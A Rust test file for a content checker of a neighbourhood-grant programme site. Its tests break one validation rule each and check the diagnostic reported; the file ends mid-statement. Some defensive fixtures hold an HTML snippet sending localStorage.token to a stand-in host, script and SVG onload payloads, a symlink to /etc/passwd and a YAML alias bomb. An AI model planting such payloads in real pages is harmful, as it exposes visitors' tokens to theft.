//! One test per rule code of the contract: a fixture edited to break exactly that rule, and the code,
//! file, line (and column) that `check` must report. Plus the accepting cases.

use crate::documents;
use crate::fixture_site;
use crate::fixture_site::{errors, expect, expect_clean, expect_only, Site};
use crate::photo;
use wijk::diag::{Rule, Severity};
use wijk::i18n::Lang;

const DISTRICT: &str = "content/districts/wiels/district.md";
const PROJECT: &str = "content/districts/wiels/projects/potager.md";
const TRANSLATION: &str = "content/districts/wiels/projects/potager.nl.md";
const PROGRAMME: &str = "data/programme.yaml";

#[test]
fn accepts_the_base_fixture() {
    expect_clean(&Site::base().check());
}

#[test]
fn accepts_the_bundled_example_programme() {
    expect_clean(&Site::example().check());
}

#[test]
fn every_rule_code_has_a_test_here() {
    let asserted = asserted_codes(include_str!("rules.rs"));
    let missing: Vec<&str> = Rule::ALL
        .iter()
        .map(|r| r.code())
        .filter(|c| !asserted.contains(*c))
        .collect();
    assert!(
        missing.is_empty(),
        "no test here asserts these rule codes (in `expect`, `expect_only` or an `assert…!`): {missing:?}"
    );
}

#[test]
fn the_coverage_scan_counts_only_codes_a_test_asserts() {
    let src = r##"
#[test]
fn a() { // "ref.theme"
    let unused = "ref.person";
    /* "ref.role" */
    let c = 'x';
    expect(&d, "budget.total", F, 1, 1);
    assert!(matches!(c, "yaml.syntax" | "id.invalid"), "{}", "ref.commune ok");
    assert_eq!(got, vec![(F, 3, "ref.edition")]);
}
fn helper<'a>() { expect_only(&d, "geo.invalid", F, 1, 1); }
"##;
    let found: Vec<String> = asserted_codes(src).into_iter().collect();
    assert_eq!(
        found,
        [
            "budget.total",
            "id.invalid",
            "ref.commune ok",
            "ref.edition",
            "yaml.syntax",
            "{}"
        ]
    );
}

/// The string literals inside an asserting call (`expect(…)`, `expect_only(…)` or an
/// `assert…!(…)` macro, at any depth) of a `#[test]` function of `src`; comments, other
/// functions and literals outside such calls do not count.
fn asserted_codes(src: &str) -> std::collections::BTreeSet<String> {
    let b = src.as_bytes();
    let mut found = std::collections::BTreeSet::new();
    // Open brackets, each with whether it opens an asserting call.
    let mut stack: Vec<bool> = Vec::new();
    let (mut ident, mut last_ident, mut pending_test, mut in_test) =
        (String::new(), String::new(), false, false);
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c.is_ascii_alphanumeric() || c == b'_' {
            ident.push(c as char);
            i += 1;
            continue;
        }
        if !ident.is_empty() {
            last_ident = std::mem::take(&mut ident);
        }
        match c {
            b'/' if b.get(i + 1) == Some(&b'/') => {
                i = find(&b[i..], b"\n").map_or(b.len(), |n| i + n);
                continue;
            }
            b'/' if b.get(i + 1) == Some(&b'*') => {
                i = find(&b[i + 2..], b"*/").map_or(b.len(), |n| i + n + 4);
                continue;
            }
            b'#' if b[i..].starts_with(b"#[test]") => pending_test = true,
            b'"' | b'#' if c == b'"' || last_ident == "r" => {
                let hashes = b[i..].iter().take_while(|&&h| h == b'#').count();
                if b.get(i + hashes) != Some(&b'"') {
                    i += 1;
                    continue;
                }
                let close = format!("\"{}", "#".repeat(hashes));
                let start = i + hashes + 1;
                let mut end = start;
                while end < b.len() && !b[end..].starts_with(close.as_bytes()) {
                    end += if hashes == 0 && b[end] == b'\\' { 2 } else { 1 };
                }
                if in_test && stack.iter().any(|&a| a) {
                    found.insert(String::from_utf8_lossy(&b[start..end.min(b.len())]).into_owned());
                }
                i = end + close.len();
                last_ident.clear();
                continue;
            }
            b'\'' => {
                // A character literal ('x', '\n'); otherwise a lifetime.
                let len = if b.get(i + 1) == Some(&b'\\') { 4 } else { 3 };
                if b.get(i + len - 1) == Some(&b'\'') {
                    i += len;
                    continue;
                }
            }
            b'(' | b'[' | b'{' => {
                let asserting = c == b'('
                    && (last_ident == "expect"
                        || last_ident == "expect_only"
                        || (last_ident.starts_with("assert") && b[..i].ends_with(b"!")));
                if stack.is_empty() && c == b'{' {
                    in_test = std::mem::take(&mut pending_test);
                }
                stack.push(asserting);
            }
            b')' | b']' | b'}' => {
                stack.pop();
                in_test &= !stack.is_empty();
            }
            _ => {}
        }
        if !c.is_ascii_whitespace() && c != b'!' {
            last_ident.clear();
        }
        i += 1;
    }
    found
}

/// Where `needle` first occurs in `hay`.
fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

/// The codes of the rule table (docs/rules.md, `# Rule codes`, first column), in order. Panics
/// when the page or its table is missing, so a moved or renamed table fails rather than passes.
fn rule_table_codes() -> Vec<String> {
    let path = fixture_site::manifest_dir().join("docs/rules.md");
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let table = text
        .split("# Rule codes\n")
        .nth(1)
        .and_then(|t| t.split("\n# ").next())
        .unwrap_or_else(|| panic!("{} has no `# Rule codes` section", path.display()));
    let mut codes = Vec::new();
    for line in table.lines().filter(|l| l.starts_with("| `")) {
        let first = line.split('|').nth(1).unwrap_or("");
        codes.extend(first.split('`').skip(1).step_by(2).map(str::to_string));
    }
    assert!(
        codes.len() >= 30,
        "could not read the rule table of docs/rules.md: {codes:?}"
    );
    codes
}

#[test]
fn every_rule_code_is_in_the_rule_table() {
    let codes = rule_table_codes();
    for rule in Rule::ALL {
        assert!(
            codes.iter().any(|c| c == rule.code()),
            "the rule table of docs/rules.md lacks {}",
            rule.code()
        );
    }
}

#[test]
fn rejects_missing_front_matter() {
    let s = Site::base();
    s.write("content/pages/notes.md", "# Notes\n\nNo front matter.\n");
    expect_only(
        &s.check(),
        "file.front-matter",
        "content/pages/notes.md",
        1,
        1,
    );
}

#[test]
fn rejects_unterminated_front_matter() {
    let s = Site::base();
    s.write(
        "content/pages/notes.md",
        "---\ntitle: Notes\n\nBody without closing fence.\n",
    );
    expect_only(
        &s.check(),
        "file.front-matter",
        "content/pages/notes.md",
        1,
        1,
    );
}

#[test]
fn rejects_non_utf8() {
    let s = Site::base();
    s.write(
        "content/pages/latin.md",
        b"---\ntitle: Caf\xe9\n---\n".as_slice(),
    );
    expect_only(&s.check(), "file.encoding", "content/pages/latin.md", 2, 11);
}

#[test]
fn rejects_files_over_one_mebibyte() {
    let s = Site::base();
    let big = format!(
        "---\ntitle: Big\n---\n{}",
        "Lorem ipsum dolor sit amet.\n".repeat(40_000)
    );
    s.write("content/pages/big.md", big);
    expect_only(&s.check(), "file.too-large", "content/pages/big.md", 1, 1);
}

#[cfg(unix)]
#[test]
fn rejects_symlinks_under_content() {
    let s = Site::base();
    std::os::unix::fs::symlink("/etc/passwd", s.root().join("content/pages/passwd.md")).unwrap();
    expect_only(&s.check(), "file.symlink", "content/pages/passwd.md", 1, 1);
}

#[test]
fn rejects_yaml_that_does_not_parse() {
    let s = Site::base();
    s.edit(
        PROJECT,
        "title: Potager collectif du Wiels",
        "title: Potager: collectif: du Wiels",
    );
    expect_only(&s.check(), "yaml.syntax", PROJECT, 2, 15);
}

#[test]
fn rejects_alias_bombs_as_yaml_errors() {
    let s = Site::base();
    let mut yaml = String::from("---\ntitle: Bomb\nlang: &a [x, x, x, x, x, x, x, x, x, x]\n");
    for (i, name) in ["b", "c", "d", "e", "f", "g", "h"].iter().enumerate() {
        let prev = ["a", "b", "c", "d", "e", "f", "g"][i];
        yaml.push_str(&format!(
            "x{name}: &{name} [{}]\n",
            vec![format!("*{prev}"); 10].join(", ")
        ));
    }
    yaml.push_str("---\n");
    s.write("content/pages/bomb.md", yaml);
    let d = s.check();
    assert_eq!(errors(&d), 1, "{d:?}");
    assert!(matches!(
        d[0].rule.code(),
        "yaml.syntax" | "schema.unknown-field" | "schema.invalid-value"
    ));
    assert_eq!(d[0].file_display(), "content/pages/bomb.md");
}

#[test]
fn rejects_unknown_fields() {
    let s = Site::base();
    s.edit(PROJECT, "edition: 2024\n", "edition: 2024\nbudjet: 3\n");
    let d = s.check();
    let d = expect_only(&d, "schema.unknown-field", PROJECT, 4, 1);
    assert!(
        d.message_in(Lang::En).contains("budjet"),
        "{}",
        d.message_in(Lang::En)
    );
}

#[test]
fn rejects_missing_required_fields() {
    let s = Site::base();
    s.edit(PROJECT, "title: Potager collectif du Wiels\n", "");
    let d = s.check();
    let d = expect_only(&d, "schema.missing-field", PROJECT, 2, 1);
    assert!(
        d.message_in(Lang::En).contains("title"),
        "{}",
        d.message_in(Lang::En)
    );
}

#[test]
fn rejects_invalid_values() {
    let s = Site::base();
    s.edit(DISTRICT, "steering_group: 6", "steering_group: six");
    expect_only(&s.check(), "schema.invalid-value", DISTRICT, 6, 17);
}

#[test]
fn rejects_invalid_dates_as_invalid_values() {
    let s = Site::base();
    s.edit(PROJECT, "due: 2024-10-01", "due: 2024-10-32");
    expect_only(&s.check(), "schema.invalid-value", PROJECT, 17, 31);
}

#[test]
fn rejects_invalid_file_ids() {
    let s = Site::base();
    s.write(
        "content/experts/Jan_P.md",
        "---\nname: Jan P\nrole: expert\n---\n",
    );
    expect_only(&s.check(), "id.invalid", "content/experts/Jan_P.md", 1, 1);
}

#[test]
fn rejects_duplicate_reviewer_ids() {
    let s = Site::base();
    s.edit("data/reviewers.yaml", "- id: sc-pieter", "- id: sc-anne");
    expect_only(&s.check(), "id.duplicate", "data/reviewers.yaml", 7, 7);
}

#[test]
fn rejects_unknown_themes() {
    let s = Site::base();
    s.edit(PROJECT, "themes: [food]", "themes: [food, cooking]");
    expect_only(&s.check(), "ref.theme", PROJECT, 4, 16);
}

#[test]
fn rejects_unknown_persons() {
    let s = Site::base();
    s.edit(
        PROJECT,
        "experts: [jan-peeters]",
        "experts: [jan-peeters, nobody]",
    );
    expect_only(&s.check(), "ref.person", PROJECT, 6, 24);
}

#[test]
fn rejects_persons_with_the_wrong_role() {
    let s = Site::base();
    s.edit(PROJECT, "experts: [jan-peeters]", "experts: [marie-dupont]");
    expect_only(&s.check(), "ref.role", PROJECT, 6, 11);
}

#[test]
fn rejects_unknown_communes() {
    let s = Site::base();
    s.edit(DISTRICT, "commune: forest", "commune: ixelles");
    expect(&s.check(), "ref.commune", DISTRICT, 3, 10);
}

#[test]
fn rejects_project_editions_without_dossier() {
    let s = Site::base();
    s.edit(PROJECT, "edition: 2024", "edition: 2025");
    expect(&s.check(), "ref.edition", PROJECT, 3, 10);
}

#[test]
fn rejects_dossier_editions_not_in_the_programme() {
    let s = Site::base();
    s.edit(DISTRICT, "- edition: 2024", "- edition: 2023");
    expect(&s.check(), "ref.edition", DISTRICT, 9, 14);
}

#[test]
fn rejects_meetings_naming_unknown_districts() {
    let s = Site::base();
    s.edit(
        "content/meetings/2024-03-14-compost.md",
        "districts: [wiels]",
        "districts: [wiels, nowhere]",
    );
    expect_only(
        &s.check(),
        "ref.district",
        "content/meetings/2024-03-14-compost.md",
        6,
        20,
    );
}

#[test]
fn rejects_broken_internal_links() {
    let s = Site::base();
    s.edit(
        DISTRICT,
        "@/meetings/2024-03-14-compost.md",
        "@/meetings/2024-03-15-compost.md",
    );
    expect_only(&s.check(), "link.broken", DISTRICT, 19, 9);
}

#[test]
fn rejects_missing_images() {
    let s = Site::base();
    s.edit(PROJECT, "../assets/parc.png", "../assets/none.png");
    expect_only(&s.check(), "asset.missing", PROJECT, 23, 1);
}

#[test]
fn rejects_images_outside_the_content_folder() {
    let s = Site::base();
    s.edit(
        PROJECT,
        "../assets/parc.png",
        "../../../../data/programme.yaml",
    );
    expect_only(&s.check(), "asset.missing", PROJECT, 23, 1);
}

#[test]
fn rejects_a_linked_html_file_at_the_link() {
    let s = Site::base();
    s.write(
        "content/districts/wiels/assets/e.html",
        "<html><script>fetch('//e.example/?'+localStorage.token)</script></html>",
    );
    s.edit(
        PROJECT,
        "Le potager occupe une ancienne friche.",
        "Le potager occupe une ancienne friche ([voir](../assets/e.html)).",
    );
    expect_only(&s.check(), "asset.type", PROJECT, 21, 40);
}

#[test]
fn rejects_linked_files_a_browser_would_run_whatever_their_name() {
    let html = "<!DOCTYPE html><script>alert(1)</script>";
    for (name, bytes) in [
        ("e.htm", html.as_bytes().to_vec()),
        ("e.xhtml", html.as_bytes().to_vec()),
        ("e.js", b"alert(localStorage.token)".to_vec()),
        ("e.xml", b"<?xml version=\"1.0\"?><x/>".to_vec()),
        (
            "e.svg",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec(),
        ),
        ("e.svgz", vec![0x1f, 0x8b, 8, 0]),
        ("e", html.as_bytes().to_vec()),
        ("e.pdf", html.as_bytes().to_vec()),
        ("e.html", documents::pdf()),
        ("e.txt", b"  <p onclick=alert(1)>".to_vec()),
        ("e.docx", documents::pdf()),
    ] {
        let s = Site::base();
        s.write(&format!("content/districts/wiels/assets/{name}"), bytes);
        s.edit(
            PROJECT,
            "Le potager occupe une ancienne friche.",
            &format!("[Le plan](../assets/{name})"),
        );
        let d = s.check();
        assert_eq!(errors(&d), 1, "{name}");
        expect(&d, "asset.type", PROJECT, 21, 1);
    }
}

#[test]
fn accepts_linked_documents_of_the_allow_list() {
    let s = Site::base();
    let docs: [(&str, Vec<u8>); 5] = [
        ("plan.pdf", documents::pdf()),
        ("plan.odt", documents::odt()),
        ("plan.docx", documents::docx()),
        ("budget.csv", b"poste;montant\nbacs;180,50\n".to_vec()),
        ("horaires.txt", b"Lundi 9 h - 12 h\n".to_vec()),
    ];
    let mut links = String::new();
    for (name, bytes) in &docs {
        s.write(&format!("content/districts/wiels/assets/{name}"), bytes);
        links.push_str(&format!(" [{name}](../assets/{name})"));
    }
    s.edit(
        PROJECT,
        "ancienne friche.",
        &format!("ancienne friche.{links}"),
    );
    expect_clean(&s.check());
}

#[test]
fn rejects_images_of_other_sites() {
    for (image, col) in [
        ("![Pixel](https://tracker.example/p.png)", 1),
        ("![Pixel](//tracker.example/p.png)", 1),
        ("![Pixel](http://tracker.example/p.png)", 1),
        (
            "Voir <img src=\"https://tracker.example/p.png\" alt=\"\">",
            6,
        ),
        (
            "<picture><source srcset=\"https://tracker.example/p.webp\"></picture>",
            10,
        ),
    ] {
        let s = Site::base();
        s.edit(PROJECT, "Le potager occupe une ancienne friche.", image);
        let d = s.check();
        assert_eq!(errors(&d), 1, "{image}");
        expect(&d, "asset.external", PROJECT, 21, col);
    }
    // A link to another site stays allowed.
    let s = Site::base();
    s.edit(
        PROJECT,
        "ancienne friche.",
        "ancienne [friche](https://example.org/a.png).",
    );
    expect_clean(&s.check());
}

#[test]
fn rejects_images_at_a_path_from_the_root() {
    let s = Site::base();
    s.edit(PROJECT, "../assets/parc.png", "/tmp/parc.png");
    expect_only(&s.check(), "asset.missing", PROJECT, 23, 1);
}

#[test]
fn rejects_amounts_with_three_decimals() {
    let s = Site::base();
    s.edit(PROJECT, "amount: 180.5}", "amount: 180.555}");
    expect(&s.check(), "budget.amount", PROJECT, 11, 60);
}

#[test]
fn rejects_zero_amounts() {
    let s = Site::base();
    s.edit(PROJECT, "amount: 2150}", "amount: 0}");
    expect(&s.check(), "budget.amount", PROJECT, 10, 0);
}

#[test]
fn rejects_unknown_expense_categories() {
    let s = Site::base();
    s.edit(PROJECT, "{category: material,", "{category: seeds,");
    expect(&s.check(), "budget.category", PROJECT, 10, 18);
}

#[test]
fn rejects_requested_that_differs_from_the_lines() {
    let s = Site::base();
    s.edit(PROJECT, "requested: 2330.5", "requested: 2330");
    let d = s.check();
    let d = expect_only(&d, "budget.total", PROJECT, 12, 14);
    let text = d.message_in(Lang::En);
    assert!(text.contains("€2,330.50"), "{text}");
    let help = d.help_in(Lang::En).unwrap_or_default();
    assert!(
        help.contains("`requested: 2330.50`"),
        "the YAML value, not money: {help}"
    );
}

#[test]
fn rejects_start_fund_over_the_cap() {
    let s = Site::base();
    s.edit(DISTRICT, "granted: 400,", "granted: 450,");
    expect_only(&s.check(), "budget.start-fund-cap", DISTRICT, 11, 27);
}

#[test]
fn rejects_start_fund_spent_over_granted() {
    let s = Site::base();
    s.edit(DISTRICT, "spent: 312.40", "spent: 412.40");
    expect_only(&s.check(), "budget.start-fund-spent", DISTRICT, 11, 39);
}

const SECOND_PROJECT: &str = "---
title: Serre
edition: 2024
budget:
  lines:
    - {category: works, label: \"Serre\", amount: 13000}
  requested: 13000
  granted: 12000
roadmap:
  - {step: \"Construire\"}
---
";

#[test]
fn rejects_a_district_total_over_the_grant_cap() {
    let s = Site::base();
    s.write("content/districts/wiels/projects/serre.md", SECOND_PROJECT);
    let d = s.check();
    let e = expect(
        &d,
        "budget.grant-cap",
        "content/districts/wiels/projects/serre.md",
        7,
        14,
    );
    let text = e.message_in(Lang::En);
    assert!(
        text.contains("€15,330.50") && text.contains("€15,000.00"),
        "{text}"
    );
    assert_eq!(
        errors(&d),
        1,
        "granted total (14000) is under the cap: {d:?}"
    );
}

#[test]
fn accepts_a_grant_cap_raised_by_the_edition() {
    let s = Site::base();
    s.write("content/districts/wiels/projects/serre.md", SECOND_PROJECT);
    s.edit(
        PROGRAMME,
        "{year: 2024, submission_deadline: 2024-06-30}",
        "{year: 2024, submission_deadline: 2024-06-30, grant_max: 16000}",
    );
    expect_clean(&s.check());
}

#[test]
fn rejects_granted_over_requested() {
    let s = Site::base();
    s.edit(PROJECT, "granted: 2000", "granted: 2400");
    expect_only(&s.check(), "budget.granted", PROJECT, 13, 12);
}

#[test]
fn rejects_spent_over_granted() {
    let s = Site::base();
    s.edit(PROJECT, "spent: 1890.25", "spent: 2100");
    expect_only(&s.check(), "budget.overspent", PROJECT, 14, 10);
}

#[test]
fn rejects_unknown_statuses() {
    let s = Site::base();
    s.edit(DISTRICT, "status: realisation", "status: ongoing");
    expect_only(&s.check(), "phase.status", DISTRICT, 10, 13);
}

#[test]
fn rejects_a_submitted_dossier_without_coach() {
    let s = Site::base();
    s.edit(DISTRICT, "coach: marie-dupont\n", "");
    expect_only(&s.check(), "phase.requirement", DISTRICT, 9, 13);
}

#[test]
fn rejects_a_steering_group_under_five() {
    let s = Site::base();
    s.edit(DISTRICT, "steering_group: 6", "steering_group: 4");
    let d = s.check();
    let d = expect_only(&d, "phase.requirement", DISTRICT, 6, 17);
    assert!(
        d.message_in(Lang::En).contains("at least 5"),
        "{}",
        d.message_in(Lang::En)
    );
}

#[test]
fn rejects_a_selected_project_without_granted() {
    let s = Site::base();
    s.edit(PROJECT, "  granted: 2000\n  spent: 1890.25\n", "");
    expect_only(&s.check(), "phase.requirement", PROJECT, 9, 3);
}

#[test]
fn rejects_a_submitted_project_without_roadmap() {
    let s = Site::base();
    s.edit(PROJECT, "roadmap:\n  - {step: \"Accord de la commune\", due: 2024-08-15, done: 2024-08-10}\n  - {step: \"Plantation\", due: 2024-10-01}\n", "");
    expect_only(&s.check(), "phase.requirement", PROJECT, 2, 8);
}

#[test]
fn rejects_an_outcome_that_does_not_match_the_status() {
    let s = Site::base();
    s.edit(DISTRICT, "outcome: selected", "outcome: not-selected");
    expect_only(&s.check(), "phase.requirement", DISTRICT, 13, 43);
}

#[test]
fn rejects_an_evaluated_dossier_without_evaluation() {
    let s = Site::base();
    s.edit(DISTRICT, "status: realisation", "status: evaluated");
    expect_only(&s.check(), "phase.requirement", DISTRICT, 10, 13);
}

#[test]
fn rejects_a_decision_before_the_submission() {
    let s = Site::base();
    s.edit(DISTRICT, "date: 2024-07-02", "date: 2024-05-01");
    expect_only(&s.check(), "phase.date-order", DISTRICT, 13, 22);
}

#[test]
fn rejects_a_submission_after_the_deadline() {
    let s = Site::base();
    s.edit(DISTRICT, "submitted: 2024-05-28", "submitted: 2024-07-01");
    expect_only(&s.check(), "phase.deadline", DISTRICT, 12, 16);
}

/// The year of today's date, by the system clock, as `check` reads it.
fn this_year() -> u64 {
    let days = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_secs())
        / 86_400;
    // Close enough for a year three ahead: a year is at least 365 days.
    1970 + (days * 4 / 1461)
}

#[test]
fn warns_about_a_date_before_the_first_edition() {
    let s = Site::base();
    s.edit(PROJECT, "date: 2024-10-05", "date: 1905-12-06");
    let diags = s.check();
    let d = expect_only(&diags, "date.implausible", PROJECT, 19, 12);
    assert_eq!(d.severity, Severity::Warning);
    assert_eq!(
        d.message_in(Lang::Fr),
        "le 6 décembre 1905 est avant la première édition du programme (2024)"
    );
    assert_eq!(
        d.message_in(Lang::Nl),
        "6 december 1905 ligt vóór de eerste editie van het programma (2024)"
    );
    assert_eq!(
        d.message_in(Lang::En),
        "6 December 1905 is before the programme's first edition (2024)"
    );
    let help = d.help_in(Lang::Fr).unwrap_or_default();
    assert!(help.contains("inversés") && help.contains("19xx"), "{help}");
    let help = d.help_in(Lang::Nl).unwrap_or_default();
    assert!(
        help.contains("omgewisseld") && help.contains("19xx"),
        "{help}"
    );
}

#[test]
fn names_the_year_meant_when_19xx_was_typed() {
    let s = Site::base();
    s.edit(PROJECT, "date: 2024-10-05", "date: 1925-06-12");
    let diags = s.check();
    let d = expect_only(&diags, "date.implausible", PROJECT, 19, 12);
    let help = d.help_in(Lang::Fr).unwrap_or_default();
    assert!(
        help.starts_with("vouliez-vous dire le 12 juin 2025 (`2025-06-12`) ?"),
        "{help}"
    );
    let help = d.help_in(Lang::Nl).unwrap_or_default();
    assert!(
        help.starts_with("bedoelde u 12 juni 2025 (`2025-06-12`)?"),
        "{help}"
    );
    let help = d.help_in(Lang::En).unwrap_or_default();
    assert!(help.contains("19xx for 20xx"), "{help}");
}

#[test]
fn warns_about_a_step_done_years_before_its_edition() {
    let s = Site::base();
    s.edit(
        PROGRAMME,
        "editions:\n",
        "editions:\n  - {year: 2015, submission_deadline: 2015-06-30}\n",
    );
    s.edit(PROJECT, "done: 2024-08-10", "done: 2019-08-10");
    let diags = s.check();
    let d = expect_only(&diags, "date.implausible", PROJECT, 16, 59);
    assert_eq!(
        d.message_in(Lang::En),
        "10 August 2019 is years before this project's edition (2024)"
    );
    assert_eq!(
        d.message_in(Lang::Fr),
        "le 10 août 2019 est des années avant l'édition de ce projet (2024)"
    );
    assert_eq!(
        d.message_in(Lang::Nl),
        "10 augustus 2019 ligt jaren vóór de editie van dit project (2024)"
    );
}

#[test]
fn warns_about_a_decision_more_than_a_year_ahead() {
    let s = Site::base();
    let ahead = this_year() + 3;
    s.edit(
        DISTRICT,
        "date: 2024-07-02",
        &format!("date: {ahead}-07-02"),
    );
    let diags = s.check();
    let d = expect_only(&diags, "date.implausible", DISTRICT, 13, 22);
    let text = d.message_in(Lang::En);
    assert!(
        text.starts_with(&format!("2 July {ahead} is more than a year from now")),
        "{text}"
    );
    assert!(d
        .message_in(Lang::Fr)
        .contains("à plus d'un an d'aujourd'hui"));
    assert!(d
        .message_in(Lang::Nl)
        .contains("meer dan een jaar na vandaag"));
}

#[test]
fn accepts_a_step_planned_years_ahead() {
    let s = Site::base();
    let ahead = this_year() + 4;
    s.edit(PROJECT, "due: 2024-10-01", &format!("due: {ahead}-10-01"));
    expect_clean(&s.check());
}

#[test]
fn rejects_a_review_time_of_no_days() {
    let s = Site::base();
    s.write(
        PROGRAMME,
        std::fs::read_to_string(s.root().join(PROGRAMME)).unwrap()
            + "editing: {backend: github, repo: quartiers/contenu, review_days: 0}\n",
    );
    let diags = s.check();
    let d = expect_only(&diags, "schema.invalid-value", PROGRAMME, 16, 66);
    assert!(d.message_in(Lang::Fr).contains("de 1 à 365"), "{d:?}");
}

/// The base fixture with an intention note due on 2024-04-01 in edition 2024.
fn with_intention_deadline() -> Site {
    let s = Site::base();
    s.edit(
        PROGRAMME,
        "{year: 2024, submission_deadline: 2024-06-30}",
        "{year: 2024, intention_deadline: 2024-04-01, submission_deadline: 2024-06-30}",
    );
    s
}

#[test]
fn rejects_an_intention_note_after_its_deadline() {
    let s = with_intention_deadline();
    s.edit(
        DISTRICT,
        "    submitted: 2024-05-28",
        "    intention: 2024-04-15\n    submitted: 2024-05-28",
    );
    let d = s.check();
    let d = expect_only(&d, "phase.deadline", DISTRICT, 12, 16);
    assert!(
        d.message_in(Lang::En).contains("intention"),
        "{}",
        d.message_in(Lang::En)
    );
}

#[test]
fn accepts_an_intention_note_on_time() {
    let s = with_intention_deadline();
    s.edit(
        DISTRICT,
        "    submitted: 2024-05-28",
        "    intention: 2024-03-30\n    submitted: 2024-05-28",
    );
    expect_clean(&s.check());
}

#[test]
fn rejects_an_intention_note_after_the_submission() {
    let s = with_intention_deadline();
    s.edit(
        PROGRAMME,
        "intention_deadline: 2024-04-01",
        "intention_deadline: 2024-06-01",
    );
    s.edit(
        DISTRICT,
        "    submitted: 2024-05-28",
        "    intention: 2024-05-30\n    submitted: 2024-05-28",
    );
    expect_only(&s.check(), "phase.date-order", DISTRICT, 12, 16);
}

#[test]
fn rejects_an_intention_deadline_after_the_submission_deadline() {
    let s = with_intention_deadline();
    s.edit(
        PROGRAMME,
        "intention_deadline: 2024-04-01",
        "intention_deadline: 2024-07-01",
    );
    s.edit(
        DISTRICT,
        "    submitted: 2024-05-28",
        "    intention: 2024-03-30\n    submitted: 2024-05-28",
    );
    expect_only(&s.check(), "phase.date-order", PROGRAMME, 14, 38);
}

#[test]
fn rejects_a_submitted_dossier_without_intention_where_the_call_asks_for_one() {
    let s = with_intention_deadline();
    let d = s.check();
    let d = expect_only(&d, "phase.requirement", DISTRICT, 10, 13);
    assert!(
        d.message_in(Lang::En).contains("`intention`"),
        "{}",
        d.message_in(Lang::En)
    );
}

#[test]
fn warns_of_a_dossier_in_preparation_that_carries_later_dates() {
    let s = Site::base();
    s.edit(DISTRICT, "status: realisation", "status: preparation");
    let d = s.check();
    let d = expect_only(&d, "phase.requirement", DISTRICT, 12, 16);
    assert_eq!(d.severity, Severity::Warning);
    assert!(
        d.message_in(Lang::Fr).contains("ne concordent pas"),
        "{}",
        d.message_in(Lang::Fr)
    );
}

#[test]
fn rejects_a_start_fund_in_a_call_without_one() {
    let s = Site::base();
    s.edit(PROGRAMME, "start_fund_max: 400\n", "");
    let d = s.check();
    let d = expect_only(&d, "budget.start-fund-cap", DISTRICT, 11, 17);
    assert!(
        d.message_in(Lang::En).contains("no start fund"),
        "{}",
        d.message_in(Lang::En)
    );
}

#[test]
fn accepts_a_call_without_start_fund_and_a_dossier_without_one() {
    let s = Site::base();
    s.edit(PROGRAMME, "start_fund_max: 400\n", "");
    s.edit(
        DISTRICT,
        "    start_fund: {granted: 400, spent: 312.40}\n",
        "",
    );
    expect_clean(&s.check());
}

/// The base project without its `budget` block.
const BUDGET: &str = "budget:\n  lines:\n    - {category: material, label: \"Bacs et terreau\", amount: 2150}\n    - {category: communication, label: \"Affiches\", amount: 180.5}\n  requested: 2330.5\n  granted: 2000\n  spent: 1890.25\n";

#[test]
fn rejects_a_submitted_dossier_whose_projects_all_ask_for_no_money() {
    let s = Site::base();
    s.edit(PROJECT, BUDGET, "");
    let d = s.check();
    let d = expect_only(&d, "phase.requirement", DISTRICT, 10, 13);
    assert!(
        d.message_in(Lang::En).contains("asks for money"),
        "{}",
        d.message_in(Lang::En)
    );
}

#[test]
fn accepts_a_project_without_budget_beside_one_that_asks_for_money() {
    let s = Site::base();
    let potager = std::fs::read_to_string(s.root().join(PROJECT)).unwrap();
    s.write(
        "content/districts/wiels/projects/fete.md",
        potager
            .replace(BUDGET, "")
            .replace("Potager collectif", "Fête des voisins"),
    );
    expect_clean(&s.check());
}

#[test]
fn rejects_unknown_languages() {
    let s = Site::base();
    s.write(
        "content/pages/hallo.md",
        "---\ntitle: Hallo\nlang: de\n---\nText.\n",
    );
    expect_only(&s.check(), "i18n.language", "content/pages/hallo.md", 3, 7);
}

#[test]
fn rejects_translations_into_unknown_languages() {
    let s = Site::base();
    s.write(
        "content/pages/about.de.md",
        "---\ntitle: Über uns\n---\nText.\n",
    );
    expect_only(
        &s.check(),
        "i18n.language",
        "content/pages/about.de.md",
        1,
        1,
    );
}

#[test]
fn rejects_non_translatable_fields_in_translations() {
    let s = Site::base();
    s.edit(
        TRANSLATION,
        "title: Gemeenschappelijke",
        "edition: 2024\ntitle: Gemeenschappelijke",
    );
    expect_only(&s.check(), "i18n.translation", TRANSLATION, 2, 1);
}

#[test]
fn points_a_translated_district_name_to_title() {
    let s = Site::base();
    s.write(
        "content/districts/wiels/district.nl.md",
        "---\nname: Wielswijk\n---\nEen wijk.\n",
    );
    let d = s.check();
    let e = expect_only(
        &d,
        "i18n.translation",
        "content/districts/wiels/district.nl.md",
        2,
        1,
    );
    assert!(
        e.help_in(Lang::En).unwrap_or_default().contains("`title`"),
        "{e:?}"
    );
    s.write(
        "content/districts/wiels/district.nl.md",
        "---\ntitle: Wielswijk\n---\nEen wijk.\n",
    );
    expect_clean(&s.check());
}

#[test]
fn checks_the_programme_contact() {
    let s = Site::base();
    let contact = "contact:\n  organisation: {fr: Cellule, nl: Cel}\n  email: info@example.org\n  phone: \"+32 2 000 00 00\"\n  address: {fr: Rue 1, nl: Straat 1}\n";
    let text = std::fs::read_to_string(s.root().join(PROGRAMME)).unwrap();
    s.write(PROGRAMME, format!("{text}{contact}"));
    expect_clean(&s.check());
    let lines = text.lines().count() as u32;
    s.write(
        PROGRAMME,
        format!(
            "{text}{}",
            contact
                .replace("info@example.org", "info at example")
                .replace("+32 2", "call 02")
        ),
    );
    let d = s.check();
    expect(&d, "schema.invalid-value", PROGRAMME, lines + 3, 10);
    expect(&d, "schema.invalid-value", PROGRAMME, lines + 4, 10);
    assert_eq!(errors(&d), 2, "{d:#?}");
}

#[test]
fn accepts_an_open_data_licence_and_rejects_a_malformed_one() {
    let s = Site::base();
    let licence = "licence:\n  name: CC-BY-4.0\n  path: https://creativecommons.org/licenses/by/4.0/\n  title: Creative Commons Attribution 4.0\n";
    let text = std::fs::read_to_string(s.root().join(PROGRAMME)).unwrap();
    s.write(PROGRAMME, format!("{text}{licence}"));
    expect_clean(&s.check());
    let lines = text.lines().count() as u32;
    let bad = licence
